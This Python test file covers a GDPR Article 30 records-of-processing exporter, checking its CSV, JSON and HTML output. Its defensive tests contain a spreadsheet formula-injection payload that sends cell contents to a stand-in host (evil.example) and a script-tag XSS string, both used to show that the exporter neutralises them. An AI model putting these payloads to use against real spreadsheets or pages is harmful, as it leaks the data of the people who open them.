"""The records of processing (GDPR Art. 30(1)): one activity per purpose with every field the
article lists, as CSV a spreadsheet cannot be tricked by, as JSON and as escaped HTML."""

from __future__ import annotations

import csv
import io
import json

import pytest
from transparency_support import (
    CATEGORY_LABELS,
    RECIPIENTS,
    Doc,
    changed,
    loaded,
    with_description,
)

from tutela.transparency import build_ropa
from tutela.transparency.ropa import COLUMNS, TECHNICAL_MEASURES, Ropa, csv_cell
from tutela.web.render import ROPA_FORMATS, render_ropa

HEADER = [
    "Controller",
    "Controller contact",
    "Data protection officer",
    "Controller address",
    "Purpose",
    "Purpose description",
    "Legal basis",
    "Categories of data subjects",
    "Categories of personal data",
    "Fields",
    "Recipients",
    "Transfers to third countries",
    "Retention",
    "Security measures",
    "Data map version",
]


def example_ropa() -> Ropa:
    return build_ropa(*loaded())


def parsed(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_has_one_row_per_purpose_with_the_article_30_columns() -> None:
    datamap, version = loaded()
    text = example_ropa().to_csv()
    assert next(csv.reader(io.StringIO(text))) == HEADER == [title for _, title in COLUMNS]
    rows = parsed(text)
    assert [r["Purpose"] for r in rows] == list(datamap.purposes)
    for row in rows:
        assert row["Controller"] == "Example Shop Ltd"
        assert row["Controller contact"] == "privacy@shop.example"
        assert row["Data protection officer"] == "dpo@shop.example"
        assert row["Controller address"] == "1 High Street, Exampleton EX1 2AB, United Kingdom"
        assert row["Categories of data subjects"] == "customers"
        assert row["Data map version"] == version
        measures = row["Security measures"].split("; ")
        assert measures == [*TECHNICAL_MEASURES, *datamap.controller.security_measures]


def test_csv_cells_carry_each_purpose_s_lists() -> None:
    rows = {r["Purpose"]: r for r in parsed(example_ropa().to_csv())}
    newsletter = rows["newsletter"]
    assert newsletter["Purpose description"] == "Send the newsletter to customers who asked for it"
    assert newsletter["Legal basis"] == "Consent (GDPR Art. 6(1)(a))"
    assert newsletter["Categories of personal data"] == (
        "User Contact Email (user.contact.email); Name (user.name); "
        "Observed Behavior (user.behavior)"
    )
    assert newsletter["Fields"] == "email; name; marketing_preferences"
    assert newsletter["Recipients"] == "Email delivery provider"
    assert newsletter["Transfers to third countries"] == (
        "US: Email delivery provider (standard contractual clauses)"
    )
    assert newsletter["Retention"] == "2 years from when the customer last gave consent (P2Y)"
    assert rows["tax_records"]["Retention"] == "10 years from when the data was collected (P10Y)"
    assert rows["tax_records"]["Recipients"] == "Tax authority; External auditors"
    assert rows["analytics"]["Recipients"] == ""
    assert rows["analytics"]["Transfers to third countries"] == ""
    every_label = " ".join(r["Categories of personal data"] for r in rows.values())
    assert all(label in every_label for label in CATEGORY_LABELS.values())
    every_recipient = " ".join(r["Recipients"] for r in rows.values())
    assert all(recipient in every_recipient for recipient in RECIPIENTS)


def test_data_subject_categories_come_from_the_map() -> None:
    def mutate(d: Doc) -> None:
        d["purposes"]["fraud_prevention"]["data_subjects"] = ["customers", "guest buyers"]

    rows = {r["Purpose"]: r for r in parsed(build_ropa(*loaded(changed(mutate))).to_csv())}
    assert rows["fraud_prevention"]["Categories of data subjects"] == "customers; guest buyers"


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_csv_formula_injection_is_neutralised(start: str) -> None:
    """A spreadsheet runs a cell starting with = + - @ as a formula: such cells get a
    leading apostrophe and read back as text."""
    attack = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
    ropa = build_ropa(*loaded(with_description("analytics", attack)))
    rows = {r["Purpose"]: r for r in parsed(ropa.to_csv())}
    assert rows["analytics"]["Purpose description"] == "'" + attack
    assert rows["newsletter"]["Purpose description"].startswith("Send")  # others untouched


def test_a_formula_in_a_controller_measure_is_neutralised_too() -> None:
    """The guard works on the whole cell: a list joined from map entries is checked as well."""

    def mutate(d: Doc) -> None:
        d["controller"]["name"] = "=1+1"
        d["purposes"]["analytics"]["recipients"] = ["@SUM(A1:A9)", "Partner"]

    rows = {r["Purpose"]: r for r in parsed(build_ropa(*loaded(changed(mutate))).to_csv())}
    assert rows["analytics"]["Controller"] == "'=1+1"
    assert rows["analytics"]["Recipients"] == "'@SUM(A1:A9); Partner"


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_csv_cell(cell: str, safe: str) -> None:
    assert csv_cell(cell) == safe


def test_json_keeps_the_lists_as_lists() -> None:
    datamap, version = loaded()
    data = json.loads(render_ropa(example_ropa(), "json"))
    assert data["datamap_version"] == version
    assert data["controller"] == {
        "name": "Example Shop Ltd",
        "contact": "privacy@shop.example",
        "dpo": "dpo@shop.example",
        "address": "1 High Street, Exampleton EX1 2AB, United Kingdom",
        "country": "GB",
    }
    assert [a["purpose"] for a in data["activities"]] == list(datamap.purposes)
    newsletter = data["activities"][2]
    assert newsletter["categories"][0] == {
        "key": "user.contact.email",
        "label": "User Contact Email",
    }
    assert newsletter["transfers"] == [
        {
            "country": "US",
            "recipient": "Email delivery provider",
            "safeguard": "standard contractual clauses",
        }
    ]
    assert newsletter["data_subjects"] == ["customers"]
    assert data["security_measures"] == {
        "technical": list(TECHNICAL_MEASURES),
        "organisational": list(datamap.controller.security_measures),
    }


def test_technical_measures_name_what_the_vault_does() -> None:
    text = " ".join(TECHNICAL_MEASURES)
    for mechanism in (
        "AES-256-GCM",
        "per-customer data key",
        "versioned key-encryption key",
        "blind index",
        "HMAC-SHA256",
        "role and purpose",
        "masked",
        "Consent checked at the time of each read",
        "HMAC-chained",
        "checkpointed outside the database",
        "crypto-shredding",
    ):
        assert mechanism in text


def test_html_is_escaped_and_complete() -> None:
    ropa = build_ropa(*loaded(with_description("analytics", "<script>alert(1)</script>")))
    html = render_ropa(ropa, "html")
    assert "<script" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert '<html lang="en">' in html
    for activity in ropa.activities:
        assert f'id="activity-{activity.purpose}"' in html
    for measure in ropa.security_measures:
        assert measure.replace("'", "&#39;") in html


def test_unknown_format_is_refused() -> None:
    assert ROPA_FORMATS == ("csv", "json", "html")
    with pytest.raises(ValueError, match="unknown ROPA format 'xlsx'"):
        render_ropa(example_ropa(), "xlsx")
